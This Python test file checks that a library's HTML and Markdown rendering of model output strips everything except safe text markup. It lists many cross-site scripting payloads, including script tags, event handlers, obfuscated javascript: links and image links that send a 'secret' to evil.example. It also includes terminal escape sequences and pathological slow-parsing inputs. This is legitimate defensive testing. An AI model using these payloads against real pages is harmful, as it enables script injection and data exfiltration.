"""What a model wrote, drawn: no element, attribute or address but those meant for text, whichever reader reads it."""

import re
import time
from html.parser import HTMLParser

import markdown as python_markdown
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from staysail import ConfigError, Message, Reply, SearchHit, Usage
from staysail.core.secrets import remember
from staysail.core.shown import Card, Code, Note, Picture, Prose, Table, mime_bundle
from staysail.host.outputs.html import draw_html
from staysail.host.outputs.markdown import draw_markdown

TEXT_TAGS = "a b blockquote br code del details div em h2 h3 h4 h5 h6 hr img li ol p pre span strong summary table tbody td th thead tr ul"
TAGS = set(TEXT_TAGS.split())
ATTRIBUTES = {"class", "style", "href", "target", "rel", "start", "open", "src", "alt"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]:\njavascript:alert(1)\n\n[r]",
    "<javascript:alert(1)>",
    '[x](https://a.example/"onclick="alert(1))',
    "[x](https://a.example 'onclick=alert(1)')",
    "[x](data:text/html,<script>alert(1)</script>)",
    "`<img src=x onerror=alert(1)>`",
    "``` <img src=x onerror=alert(1)>\n```",
    "```\n```\n<img src=x onerror=alert(1)>",
    "~~~\n```\n~~~\n<img src=x onerror=alert(1)>",
    "````\n```\n<img src=x onerror=alert(1)>\n````",
    "- a\n\n      <img src=x onerror=alert(1)>",
    "    <img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# title {: onclick=alert(1) }",
    "*a*{: onmouseover='alert(1)' style='x' }",
    "*a*{onmouseover=alert(1)}",
    "`a\n\n<img src=x onerror=alert(1)>\n\nb`",
    "<!-- --><img src=x onerror=alert(1)>",
    "[a](https://b.example)![x](https://evil.example/x.png)",
    "[![x](https://evil.example/x.png)](https://b.example)",
    "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "term\n: <img src=x onerror=alert(1)>",
]
PIECES = st.sampled_from(
    [
        *"<>[]()!`~*_#-+|\\&\"'\n :={}/",
        "    ",
        "script",
        "img",
        "onerror=",
        "javascript:",
        "https://a.example/",
        "```",
        "1. ",
        "a",
        "\n\n",
        "[r]: ",
        "![",
        "](",
    ]
)


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.found.append(("comment", {}))

    def handle_decl(self, decl):
        self.found.append(("declaration", {}))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Elements()
    reader.feed(html)
    reader.close()
    return reader.found


def assert_harmless(html: str, *, pictures: bool = False) -> None:
    for tag, attributes in elements(html):
        assert tag in (TAGS if pictures else TAGS - {"img"}), html
        assert attributes.keys() <= ATTRIBUTES, html
        address = attributes.get("href", "https://")
        assert re.match(r"https?://|mailto:", address or ""), html
        assert (attributes.get("src") or "data:image/").startswith("data:image/"), html


READERS = {
    "markdown-it with raw HTML": MarkdownIt("gfm-like", {"html": True, "linkify": False}).render,
    "python-markdown": lambda text: python_markdown.markdown(text, extensions=["fenced_code"]),
    "python-markdown with extensions": lambda text: python_markdown.markdown(
        text, extensions=["extra", "attr_list", "md_in_html", "sane_lists", "pymdownx.superfences", "pymdownx.magiclink", "admonition"]
    ),
}


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_text(text):
    assert_harmless(draw_html([Prose(text)]))
    for name, read in READERS.items():
        for found, attributes in elements(read(draw_markdown([Prose(f"before\n{text}\nafter")]))):
            assert found in TAGS - {"img"} | {"h1", "abbr", "sup", "dl", "dt", "dd"}, (name, found)
            assert not {key for key in attributes if key.startswith("on") or key == "style"}, (name, attributes)
            assert re.match(r"https?://|mailto:", attributes.get("href") or "https://"), (name, attributes)


@given(st.lists(PIECES, max_size=40).map("".join))
def test_any_text_is_harmless(text):
    assert_harmless(draw_html([Prose(text), Note(text), Code(text), Card(text, text, (Prose(text),)), Table((text,), ((text,),))]))
    for read in READERS.values():
        for found, attributes in elements(read(draw_markdown([Prose(text), Table((text,), ((text,),)), Card(text, text, (Code(text),))]))):
            assert found not in ("script", "img", "svg", "iframe", "comment"), found
            assert not {key for key in attributes if key.startswith("on")}, attributes
            assert re.match(r"https?://|mailto:", attributes.get("href") or "https://"), attributes


def test_a_picture_is_only_one_of_a_kind_that_browsers_draw_as_a_picture():
    assert_harmless(draw_html([Picture(b"x", "image/png"), Picture(b"x", "image/svg+xml"), Picture(b"x", '"><script>')]), pictures=True)
    assert "svg" not in re.sub(r"\[[^\]]*\]", "", draw_html([Picture(b"<svg>", "image/svg+xml")]))


def test_formulas_cannot_reach_beyond_themselves():
    html = draw_html([Prose(r"$\href{javascript:alert(1)}{x}$ and $\frac{1}{2}$ and \(x^2\)")])
    assert r"\href" not in html
    assert r"\frac{1}{2}" in html
    assert r"\(x^2\)" in html


def test_control_characters_do_not_reach_a_terminal():
    bundle = mime_bundle([Prose("a\x1b]52;c;aGk=\x07b"), Note("\x1b[2J"), Card("\x9b2J", "\u202e")])
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", bundle["text/plain"])


def test_no_key_is_shown():
    key = "sk-very-secret-key-0123456789"
    remember(key)
    reply = Reply(f"key {key}", None, (Message.assistant(f"key {key}"),), Usage(), "stop")
    values = [reply, ConfigError(f"bad {key}"), SearchHit(1.0, key, {"text": key})]
    for value in values:
        for text in (*value._repr_mimebundle_().values(), value._repr_html_(), value._repr_markdown_()):
            assert key not in text


WORST = [
    "*" * 200_000,
    "`a" * 100_000,
    "[" * 200_000,
    "[a](" * 50_000,
    "- " * 100_000,
    "> " * 100_000,
    "_a " * 60_000,
    "*a **b " * 30_000,
    "- a\n\n" * 40_000,
    "# " + "#" * 190_000 + "x",
    "\n".join(" " * level + "- a" for level in range(600)),
    "|" * 99_000 + "\n" + "|-" * 50_000,
    "\\" * 200_000,
    "{" * 200_000,
    "```\n" * 50_000,
]


@pytest.mark.parametrize("text", WORST, ids=lambda text: repr(text[:8]))
def test_the_worst_text_takes_a_moment(text):
    started = time.process_time()
    draw_html([Prose(text)])
    draw_markdown([Prose(text)])
    assert time.process_time() - started < 15  # some 2 s on an idle machine
